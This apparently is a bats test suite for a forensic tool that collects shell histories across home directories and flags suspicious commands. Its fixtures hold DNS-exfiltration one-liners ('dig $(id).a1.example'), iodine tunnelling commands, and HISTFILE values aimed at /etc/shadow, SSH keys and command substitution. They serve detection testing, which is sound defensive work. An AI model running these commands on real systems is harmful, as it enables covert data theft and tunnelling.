#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# history.bats - the histories of every home, wherever and whatever they are.

# shellcheck disable=SC2154 # status, output: of run; archive: of collect_root
# shellcheck disable=SC2016 # what histories hold is not for this shell
load lib

setup() {
	root=$BATS_TEST_TMPDIR/root
	out=$BATS_TEST_TMPDIR/out
	make_root "$root"
	mkdir -p "$root/srv/bob" "$root/var/lib/svc" "$root/home/dept/eve"
	cat >>"$root/etc/passwd" <<-'TEXT'
		svc:x:999:999::/var/lib/svc:/usr/sbin/nologin
		bob:x:1001:1001::/srv/bob:/bin/zsh
	TEXT
}

@test "the paper's look-up in a history is found, with its time and bytes" {
	printf '#1795000000\ncurl -s http://ip-api.com/json/evil.example\n' \
		>"$root/root/.bash_history"
	collect_root "$root" "$out"
	exits 0
	[[ $(found "$archive" command.domain-to-ip 'root: evil.example') == high ]]
	run findings "$archive" '.findings[] |
		select(.rule == "command.domain-to-ip") |
		.first, .evidence[0].text, .evidence[0].member, .evidence[0].offset'
	says 2026-11-18T11:06:40Z
	says 'curl -s http://ip-api.com/json/evil.example'
	says '[root]/root/.bash_history'
	says 12
}

@test "every home: passwd, /root, /home, two levels down; every shell" {
	local h=$root/home/ann
	mkdir -p "$h/.local/share/fish" "$h/.local/share/powershell/PSReadLine"
	echo 'dig $(id).a1.example' >"$root/root/.ash_history"
	echo 'dig $(id).a2.example' >"$root/srv/bob/.zsh_history"
	echo 'dig $(id).a3.example' >"$root/var/lib/svc/.bash_history"
	echo '- cmd: dig $(id).a4.example' \
		>"$h/.local/share/fish/fish_history"
	echo 'dig $(id).a5.example' \
		>"$h/.local/share/powershell/PSReadLine/ConsoleHost_history.txt"
	echo 'dig $(id).a6.example' >"$root/home/dept/eve/.bash_history"
	collect_root "$root" "$out"
	exits 0
	found "$archive" command.exfil 'root: a1.example'
	found "$archive" command.exfil 'bob: a2.example'
	found "$archive" command.exfil 'svc: a3.example'
	found "$archive" command.exfil 'ann: a4.example'
	found "$archive" command.exfil 'ann: a5.example'
	found "$archive" command.exfil '/home/dept/eve: a6.example'
}

@test "a link, a FIFO and a directory in a history's place hold up nothing" {
	ln -s /dev/null "$root/home/ann/.bash_history"
	mkfifo "$root/srv/bob/.zsh_history"
	mkdir "$root/root/.bash_history"
	collect_root "$root" "$out"
	[[ $(found "$archive" history.disabled /home/ann/.bash_history) == high ]]
	[[ $(found "$archive" history.disabled /srv/bob/.zsh_history) == high ]]
	run members "$archive"
	says_nothing_of bash_history
}

@test "HISTFILE is followed to a plain path, and never into the system" {
	printf '%s\n' 'HISTFILE="$HOME/.cache/h"' 'HISTFILE=/var/tmp/.h' \
		'HISTFILE=/etc/shadow' 'HISTFILE=/etc/../etc/shadow' \
		'HISTFILE=$(touch '"$out"'.x)' 'HISTFILE=/root/.ssh/id_rsa' \
		>"$root/root/.bashrc"
	mkdir -p "$root/root/.cache" "$root/root/.ssh" "$root/var/tmp"
	echo 'root:$6$secret-hash:1::::::' >"$root/etc/shadow"
	echo 'secret-key' >"$root/root/.ssh/id_rsa"
	echo 'iodine -f t.b1.example' >"$root/root/.cache/h"
	echo 'iodine -f t.b2.example' >"$root/var/tmp/.h"
	collect_root "$root" "$out"
	exits 0
	found "$archive" command.tunnel-tool 'root: b1.example'
	found "$archive" command.tunnel-tool 'root: b2.example'
	run bash -c 'gzip -dc "$1" | grep -ac secret-' - "$archive"
	[[ $output == 0 ]]
	[[ ! -e $out.x ]]
}

@test "a history that a link leads to is read, and named for its user" {
	mkdir -p "$root/var/tmp"
	ln -s /var/tmp/hidden "$root/home/ann/.bash_history"
	echo 'dig $(whoami).c1.example' >"$root/var/tmp/hidden"
	collect_root "$root" "$out"
	found "$archive" command.exfil 'ann: c1.example'
	[[ $(found "$archive" history.disabled /home/ann/.bash_history) == medium ]]
}

@test "stock start-up files and quiet histories give nothing" {
	printf '%s\n' '# ~/.bashrc' 'HISTCONTROL=ignoreboth' 'HISTSIZE=1000' \
		'HISTFILESIZE=2000' "alias ll='ls -l'" >"$root/root/.bashrc"
	printf '%s\n' ls 'cd /etc' 'vim fstab' 'dig example.com' \
		'systemctl status nginx' >"$root/root/.bash_history"
	: >"$root/home/ann/.bash_history"
	collect_root "$root" "$out"
	exits 0
	run findings "$archive" '.findings[] |
		select(.rule | test("^(command|history|persistence)")) |
		select(.severity != "info") | .rule'
	[[ -z $output ]]
}
